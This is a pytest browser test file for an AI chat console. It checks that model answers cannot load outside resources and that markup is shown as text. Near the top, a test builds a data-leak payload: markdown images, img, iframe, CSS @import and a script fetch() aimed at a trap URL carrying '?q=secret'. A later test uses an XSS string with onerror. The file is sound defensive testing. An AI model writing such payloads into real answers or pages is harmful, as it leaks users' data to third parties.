"""Nothing leaves this machine, whatever a model writes."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import urlsplit

import pytest

from tests.console.browser import Browser
from tests.console.conftest import Site
from tests.fakes.engine import call


class Trap:
    """A server elsewhere that counts who calls."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        self.server = HTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def trap() -> Iterator[Trap]:
    made = Trap()
    yield made
    made.server.shutdown()


def test_an_image_in_an_answer_is_not_loaded(browser: Browser, site: Site, trap: Trap) -> None:
    evil = (
        f"看图 ![a]({trap.url}/md?q=secret) ![b][r] <img src={trap.url}/raw> "
        f'<style>@import "{trap.url}/css";</style> <iframe src="{trap.url}/frame"></iframe> '
        f"<script>fetch('{trap.url}/js')</script> [链接]({trap.url}/link) <{trap.url}/auto>"
        f"\n\n[r]: {trap.url}/ref\n"
    )
    site.says(evil, evil)  # an answer may say what the question did
    browser.sign_in("customer")
    browser.paste(evil)
    browser.box.send_keys("\n")
    answer = browser.one(".dz-answer", "看图")
    browser.answered()
    for tag in ("img", "a", "style", "script", "iframe", "link"):
        assert not answer.find_elements("css selector", tag), tag
    assert "/link" in answer.text
    # Even if something were drawn after all, the browser is told not to load it.
    browser.driver.execute_async_script(
        "const done = arguments[1], i = new Image();"
        "i.onload = i.onerror = () => done(); i.src = arguments[0] + '/csp';",
        trap.url,
    )
    assert trap.hits == []


def test_markup_in_a_question_an_argument_and_a_result_is_text(
    browser: Browser, site: Site
) -> None:
    nasty = "<img src=x onerror=alert(1)>"
    site.says(f"报修 {nasty}", call("create_ticket", title=f"报修 {nasty}"), "已提交。")
    browser.sign_in("customer")
    browser.ask(f"报修 {nasty}")
    browser.one(".dz-answer", "已提交。")
    browser.press(".dz-card summary")
    assert browser.text().count(nasty) >= 3
    assert not browser.all(".dz-log img")


def test_no_request_leaves_loopback(browser: Browser, site: Site) -> None:
    site.says("你好", "您好。")
    browser.sign_in("finance")
    browser.ask("你好")
    browser.one(".dz-answer", "您好。")
    browser.press(".dz-language")
    browser.one(".dz-brand", "Yunshan Trading")
    assert browser.hosts() == {urlsplit(site.url).netloc}


def test_the_pages_log_no_errors(browser: Browser) -> None:
    browser.driver.get_log("browser")
    browser.sign_in("customer")
    errors = [e["message"] for e in browser.driver.get_log("browser") if e["level"] == "SEVERE"]
    assert errors == []
